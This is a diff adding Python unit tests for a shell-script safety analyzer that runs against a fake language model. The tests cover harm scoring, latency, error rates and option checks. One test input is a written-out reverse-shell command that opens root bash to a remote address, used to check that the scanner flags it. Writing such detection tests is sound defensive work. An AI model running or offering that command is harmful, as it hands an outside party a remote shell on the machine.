@@ -0,0 +1,114 @@
+import asyncio
+import shutil
+import tempfile
+import unittest
+from pathlib import Path
+from unittest.mock import patch
+
+from src.baish.config import Config, LLMConfig
+from src.baish.fake_llm import FakeChatModel, SimulatedError, rule_verdict
+from src.baish.llm import APIError, get_llm
+from src.baish.script_analyzer import analyze_script
+
+FIXTURES = Path(__file__).parent.parent / "fixtures"
+
+
+class TestFakeLLM(unittest.TestCase):
+    def setUp(self):
+        self.temp_dir = Path(tempfile.mkdtemp())
+        self.addCleanup(lambda: shutil.rmtree(self.temp_dir))
+        self.config = Config(
+            llms={
+                "fake": LLMConfig(
+                    name="fake", provider="fake", model="fake", options={}
+                )
+            },
+            default_llm="fake",
+            baish_dir=self.temp_dir,
+            cache_enabled=False,
+            static_filter_enabled=False,
+        )
+
+    def test_rule_verdicts(self):
+        benign = rule_verdict("#!/bin/sh\necho hello\n")
+        self.assertEqual(benign["harm_score"], 1)
+        self.assertFalse(benign["requires_root"])
+
+        risky = rule_verdict("sudo bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n")
+        self.assertEqual(risky["harm_score"], 9)
+        self.assertTrue(risky["requires_root"])
+
+        combined = rule_verdict(
+            "Combine these analyses:\n\n"
+            "{'harm_score': 2, 'complexity_score': 4, 'requires_root': False}\n"
+            "{'harm_score': 7, 'complexity_score': 1, 'requires_root': True}"
+        )
+        self.assertEqual(
+            (
+                combined["harm_score"],
+                combined["complexity_score"],
+                combined["requires_root"],
+            ),
+            (7, 4, True),
+        )
+
+    def test_analyze_script_offline(self):
+        harm, _, explanation, _, _ = analyze_script(
+            (FIXTURES / "secret-upload.sh").read_text(), config=self.config
+        )
+        self.assertEqual(harm, 7)
+        self.assertIn("uploads", explanation)
+
+    def test_canned_verdict(self):
+        verdict = {
+            "harm_score": 4,
+            "complexity_score": 2,
+            "requires_root": False,
+            "explanation": "canned",
+        }
+        self.config.llm.options = {"verdict": verdict}
+
+        result = analyze_script("#!/bin/sh\necho hi\n", config=self.config)
+
+        self.assertEqual(result[:3], (4, 2, "canned"))
+
+    def test_latency_and_throughput(self):
+        llm = FakeChatModel(latency=0.5, latency_jitter=0.25, tokens_per_second=10)
+        with patch("src.baish.fake_llm.time.sleep") as mock_sleep:
+            message = llm.invoke("echo hi")
+            llm.invoke("echo hi")
+
+        delays = [c.args[0] for c in mock_sleep.call_args_list]
+        output_tokens = message.usage_metadata["output_tokens"]
+        self.assertEqual(delays[0], delays[1])  # same prompt, same jitter
+        self.assertGreaterEqual(delays[0], 0.5 + output_tokens / 10)
+        self.assertLessEqual(delays[0], 0.75 + output_tokens / 10)
+
+    def test_error_rate_is_reproducible(self):
+        prompts = [f"echo {i}" for i in range(200)]
+
+        def failures(seed):
+            llm = FakeChatModel(error_rate=0.25, seed=seed)
+            results = llm.batch(prompts, return_exceptions=True)
+            return [isinstance(r, SimulatedError) for r in results]
+
+        first = failures(seed=1)
+        self.assertEqual(first, failures(seed=1))
+        self.assertNotEqual(first, failures(seed=2))
+        self.assertTrue(20 < sum(first) < 80)
+
+        async def afailures():
+            llm = FakeChatModel(error_rate=0.25, seed=1)
+            results = await llm.abatch(prompts, return_exceptions=True)
+            return [isinstance(r, SimulatedError) for r in results]
+
+        self.assertEqual(first, asyncio.run(afailures()))
+
+    def test_unknown_option_rejected(self):
+        self.config.llm.options = {"latencyy": 1}
+        with self.assertRaises(APIError):
+            get_llm(self.config)
+
+
+if __name__ == "__main__":
+    unittest.main()